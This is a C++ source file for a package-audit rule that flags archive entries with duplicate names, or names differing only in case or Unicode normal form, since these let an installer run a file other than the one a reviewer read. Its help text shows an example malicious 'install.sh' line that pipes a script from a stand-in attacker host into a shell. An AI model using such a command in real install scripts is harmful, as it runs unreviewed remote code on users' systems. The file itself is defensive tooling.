#include <algorithm>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include <fmt/format.h>

#include "rules/rule.hpp"
#include "text/ascii.hpp"
#include "text/nfd.hpp"
#include "text/utf8.hpp"

namespace pkgaudit::rules {
namespace {

constexpr std::string_view kHelp = R"md(## What it does
Reports two entries with the same normalised name (both are audited: pkgaudit
reads entries by index, never by name) as an error, and names that differ
only in letter case, or only in Unicode normal form (`café` composed, NFC,
against `cafe` plus a combining accent, NFD), as a warning.

## Why is this bad?
Which of two same-named entries an extractor keeps depends on the
extractor: a reviewer may read the harmless one while the installer runs
the other. Names equal up to case collide on case-insensitive file systems
(macOS, Windows) the same way, and names equal up to normalisation on
macOS file systems, which store names decomposed.

## Example
```
install.sh     echo upgrading
install.sh     curl -s https://evil.example | sh
```

## Use instead
One entry per name; rebuild the package from a directory.
)md";

// An entry and the name it is compared by: its file's path (key 0) or a
// decomposed form of it (decomposed[key - 1]). Eight bytes: the rule sorts
// every entry of the package at once, in the final run, when the whole
// package is held (24-byte records, a copy of the survivors and
// std::stable_sort's buffer were 3 MB of the audit's peak at 50,000 files).
struct Keyed {
  uint32_t file;
  uint32_t key;
};

bool before_folded(std::string_view a, std::string_view b) {
  return std::lexicographical_compare(a.begin(), a.end(), b.begin(), b.end(),
                                      [](char x, char y) { return text::ascii_lower(x) < text::ascii_lower(y); });
}

class Names {
 public:
  explicit Names(const model::Package& package) : files_(package.files) {}
  const model::File& file(const Keyed& e) const { return files_[e.file]; }
  std::string_view key(const Keyed& e) const { return e.key == 0 ? files_[e.file].path : decomposed_[e.key - 1]; }
  // Keys the entry by its decomposed name, when that differs from its key.
  void decompose(Keyed& e) {
    std::string d = text::nfd(key(e));
    if (d == key(e)) return;
    decomposed_.push_back(std::move(d));
    e.key = static_cast<uint32_t>(decomposed_.size());
  }

  // Each entry whose key equals an earlier entry's is handed to `clash`
  // with the first entry of that key, in key order; the others stay, in
  // file order. Sorted rather than looked up in a map of names: a package
  // of 50,000 entries held three maps of 50,000 names (11 MB) for this
  // rule alone.
  template <typename Less, typename Clash>
  void keep_first_of_each(std::vector<Keyed>& entries, Less less, Clash clash) const {
    // Equal keys in file order, as a stable sort of the file-ordered
    // entries would leave them, without its buffer.
    std::sort(entries.begin(), entries.end(), [&](const Keyed& a, const Keyed& b) {
      if (less(key(a), key(b))) return true;
      if (less(key(b), key(a))) return false;
      return a.file < b.file;
    });
    size_t kept = 0;
    for (size_t i = 0, group = 0; i < entries.size(); ++i) {
      if (i > 0 && !less(key(entries[group]), key(entries[i]))) {
        clash(file(entries[i]), file(entries[group]));
        continue;
      }
      entries[kept] = entries[i];
      group = kept++;
    }
    entries.resize(kept);
    std::sort(entries.begin(), entries.end(), [](const Keyed& a, const Keyed& b) { return a.file < b.file; });
  }

 private:
  const std::vector<model::File>& files_;
  std::vector<std::string> decomposed_;  // only the names NFD changes: most are ASCII
};

void check(const model::Package& package, FindingSink& sink) {
  Names names(package);
  std::vector<Keyed> entries;
  for (size_t i = 0; i < package.files.size(); ++i) {
    const model::File& file = package.files[i];
    if (file.kind == FileKind::directory || file.name.is_directory() || file.name.unnamed()) continue;
    entries.push_back({static_cast<uint32_t>(i), 0});
  }
  const auto bytewise = [](std::string_view a, std::string_view b) { return a < b; };
  names.keep_first_of_each(entries, bytewise, [&](const model::File& file, const model::File&) {
    sink.report_file(file, fmt::format("a second entry named '{}': extractors disagree on which one wins; both were "
                                       "audited",
                                       text::printable(file.path)));
  });
  for (Keyed& e : entries) names.decompose(e);
  names.keep_first_of_each(entries, bytewise, [&](const model::File& file, const model::File& first) {
    sink.report_file(file,
                     fmt::format("'{}' and '{}' are one name in two Unicode normal forms (NFC and NFD): macOS file "
                                 "systems and some extractors treat them as the same file, so one overwrites the "
                                 "other",
                                 text::printable(first.path), text::printable(file.path)),
                     Level::warning);
  });
  names.keep_first_of_each(entries, before_folded, [&](const model::File& file, const model::File& first) {
    sink.report_file(file,
                     fmt::format("'{}' and '{}' differ only in letter case: on a case-insensitive file system one "
                                 "overwrites the other",
                                 text::printable(first.path), text::printable(file.path)),
                     Level::warning);
  });
}

}  // namespace

extern const Rule PA105_duplicate_entry;
const Rule PA105_duplicate_entry{
    {.id = "PA105",
     .name = "duplicate-entry",
     .level = Level::error,
     .summary = "two entries with the same normalised name",
     .help = kHelp,
     .fix = "one entry per name: rebuild the package from a directory",
     .tags = {"archive", "security"},
     .security_severity = 6.5},
    check, /*after_suppressions=*/false, /*whole_package=*/true};

}  // namespace pkgaudit::rules
